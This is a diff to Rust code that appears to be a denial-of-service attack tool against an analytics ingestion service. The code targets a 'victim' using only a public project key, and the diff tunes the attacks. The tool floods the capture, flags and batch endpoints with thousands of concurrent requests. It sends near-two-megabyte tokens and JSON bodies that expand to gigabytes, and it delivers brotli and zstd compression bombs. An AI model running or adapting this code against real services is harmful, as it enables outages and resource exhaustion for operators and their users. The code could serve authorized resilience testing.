@@ -1,6 +1,5 @@
 //! What strangers can do with nothing but the public key of a project, or without one.
 
-use std::fmt::Write as _;
 use std::io::Write as _;
 use std::time::Duration;
 
@@ -64,18 +63,16 @@ pub async fn months(victim: Victim) -> Result<String> {
     ))
 }
 
-/// Tokens of a megabyte that nobody has, packed to a thousandth.
+/// Tokens of almost two megabytes that nobody has, packed to a thousandth.
 pub async fn tokens(victim: Victim) -> Result<String> {
-    const REQUESTS: usize = 4_000;
-    const TOKEN_BYTES: usize = 1 << 20;
+    const REQUESTS: usize = 2_000;
+    const TOKEN_BYTES: usize = (2 << 20) - 1_024;
     at_once(REQUESTS, 16, move |number| {
         let victim = victim.clone();
         async move {
-            let body = format!(
-                "{{\"api_key\":\"{}{number}\",\"event\":\"x\",\"distinct_id\":\"x\"}}",
-                "a".repeat(TOKEN_BYTES)
-            );
-            let request = packed("/capture/", body.as_bytes())?;
+            let token = "a".repeat(TOKEN_BYTES);
+            let body = format!("{{\"token\":\"{number}{token}\",\"distinct_id\":\"x\"}}");
+            let request = packed("/flags/?v=2", body.as_bytes())?;
             Ok(victim.ask(number, &request).await?.0)
         }
     })
@@ -84,18 +81,18 @@ pub async fn tokens(victim: Victim) -> Result<String> {
 
 /// Bodies of some kilobytes whose values take gigabytes, asked of `/flags`.
 pub async fn flags(victim: Victim) -> Result<String> {
-    let nested = "[],".repeat((BYTES_MAX - 1_024) / 3);
+    const TEXT_BYTES: usize = (2 << 20) - 1_024;
+    let objects = "{\"\":0},".repeat(TEXT_BYTES / 7);
     let body = |token: &str| {
         format!(
-            "{{\"person_properties\":{{\"x\":[{}0]}},\"distinct_id\":\"x\",\"token\":\"{token}\"}}",
-            &nested[..nested.len() / 2 / 3 * 3]
+            "{{\"person_properties\":{{\"x\":[{objects}0]}},\"distinct_id\":\"x\",\"token\":\"{token}\"}}"
         )
     };
     let known = packed("/flags/?v=2", body(PROJECT_KEY).as_bytes())?;
     let unknown = packed("/flags/?v=2", body("phc_nobody").as_bytes())?;
     let requests = std::sync::Arc::new([known, unknown]);
     let sizes = format!("bodies of {} bytes; ", requests[0].len());
-    let told = at_once(256, 64, move |number| {
+    let told = at_once(512, 64, move |number| {
         let (victim, requests) = (victim.clone(), requests.clone());
         async move { Ok(victim.ask(number, &requests[number % 2]).await?.0) }
     })
@@ -105,24 +102,21 @@ pub async fn flags(victim: Victim) -> Result<String> {
 
 /// Bodies that zstd and brotli packed to almost nothing, sent to capture.
 pub async fn inflating(victim: Victim) -> Result<String> {
-    let mut text = format!("{{\"api_key\":\"{PROJECT_KEY}\",\"batch\":[");
-    while text.len() < BYTES_MAX - 4_096 {
-        // Writing to a String cannot fail.
-        let _ = write!(text, "{{\"event\":\"e{}\",\"distinct_id\":\"d\"}},", text.len() % 7);
-    }
-    text.push_str("{\"event\":\"last\",\"distinct_id\":\"d\"}]}");
-    // The public key is wrong: nothing is to be kept, only inflated.
-    let text = text.replacen(PROJECT_KEY, "phc_nobody", 1);
-    let gzip = packed("/batch/", text.as_bytes())?;
-    let sizes = format!("bodies of {} bytes; ", gzip.len());
+    const EVENTS: usize = 20;
+    const VALUE_BYTES: usize = BYTES_MAX / EVENTS - 1_024;
+    let value = "x".repeat(VALUE_BYTES);
+    let batch: Vec<_> = (0..EVENTS)
+        .map(|_| json!({ "event": "large", "distinct_id": "d", "properties": { "value": value } }))
+        .collect();
+    let text = json!({ "api_key": PROJECT_KEY, "batch": batch }).to_string();
     let requests = std::sync::Arc::new([
-        gzip,
         coded("br", brotli(text.as_bytes())?),
         coded("zstd", zstd::bulk::compress(text.as_bytes(), 3)?),
     ]);
-    let told = at_once(256, 64, move |number| {
+    let sizes = format!("bodies of {} and {} bytes; ", requests[0].len(), requests[1].len());
+    let told = at_once(64, 64, move |number| {
         let (victim, requests) = (victim.clone(), requests.clone());
-        async move { Ok(victim.ask(number, &requests[number % 3]).await?.0) }
+        async move { Ok(victim.ask(number, &requests[number % 2]).await?.0) }
     })
     .await?;
     Ok(sizes + &told)
